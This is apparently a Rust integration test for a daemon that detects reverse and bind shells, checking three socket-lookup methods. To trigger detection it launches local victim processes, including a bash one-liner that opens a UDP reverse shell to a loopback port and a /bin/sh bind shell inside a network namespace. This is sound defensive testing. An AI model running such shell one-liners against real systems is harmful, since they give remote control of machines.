//! Each way of finding out what a socket is, by itself: the better ones are switched off.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::net::UdpSocket;

use common::attacker::{Listener, Session};
use common::daemon::Daemon;
use common::expected::{Expected, prove, prove_session};
use common::programs::program;
use common::victim::Victim;
use common::wait_for;

fn shells_are_found_with(lookup: &str) {
    let daemon = Daemon::start(&format!("[sensor]\nsocket_lookup = [\"{lookup}\"]\n"));
    // What it finds is there from before; on a busy machine that may be the first of the shells below.
    wait_for("the sweep of the start is over", || {
        (daemon.status()["counts"]["sweeps"].as_u64() > Some(0)).then_some(())
    });
    let attack = |listener: &Listener, way: &str, host: &str| {
        let port = listener.port().to_string();
        Victim::start(program("attack"), &[way, host, &port, "012", "/bin/sh"])
    };
    let shell = Expected { args: &["/bin/sh"], patient: true, ..Expected::default() };

    let attacker = Listener::tcp();
    let victim = attack(&attacker, "dup", "127.0.0.1");
    prove(&daemon, &attacker, victim, &shell);

    let attacker = Listener::at("::1");
    let victim = attack(&attacker, "dup", "::1");
    prove(&daemon, &attacker, victim, &Expected { protocol: "TCPv6", ..shell.clone() });

    let attacker = Listener::tcp();
    let victim = attack(&attacker, "dup", "::ffff:127.0.0.1");
    prove(&daemon, &attacker, victim, &Expected { protocol: "TCPv6", ..shell.clone() });

    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let line = format!("exec 5<>/dev/udp/127.0.0.1/{port}; echo hello >&5; exec sh <&5 >&5 2>&5");
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let udp = Expected { protocol: "UDP", wire: Some("UDP"), patient: true, ..Expected::default() };
    prove_session(&daemon, Session::first_datagram(socket), victim, &udp);

    // In a network namespace of its own, whose loopback is another than ours. It listens on a port of the range that
    // the kernel gives out: that somebody listens has to be looked up there, while the shell waits.
    let directory = tempfile::tempdir().unwrap();
    let (flag, own) = (directory.path().join("seen"), port.to_string());
    let line = format!(
        "ip link set lo up; {} serve 127.0.0.1 {own} 1 /bin/sh -s & \
         until exec 5<>/dev/tcp/127.0.0.1/{own}; do :; done 2>/dev/null; \
         until [ -e {} ]; do sleep 0.05; done; echo exit >&5; wait",
        program("attack").display(),
        flag.display()
    );
    let mut victim = Victim::start("unshare", &["--net", "bash", "-c", &line]);
    let found = daemon.wait_for("the bind shell in its own network namespace", |record| {
        record.own_port() == Some(port) && record.row() == 1
    });
    std::fs::write(&flag, "").unwrap();
    assert!(victim.wait().success());
    assert!(found.ran(&["/bin/sh", "-s"]), "{}", found.brief());
    assert_eq!(found.text("Tether_Direction"), "inbound", "{}", found.brief());
    assert_eq!(found.text("Peer_Scope"), "loopback", "{}", found.brief());
    assert_eq!(found.text("Socket_Protocol"), "TCP", "{}", found.brief());
    daemon.stop();
}

#[test]
fn pidfd_getfd_alone() {
    require!("gcc", "bash", "unshare", "ip");
    shells_are_found_with("getfd");
}

#[test]
fn sock_diag_alone() {
    require!("gcc", "bash", "unshare", "ip");
    shells_are_found_with("diag");
}

#[test]
fn proc_net_alone() {
    require!("gcc", "bash", "unshare", "ip");
    shells_are_found_with("proc");
}
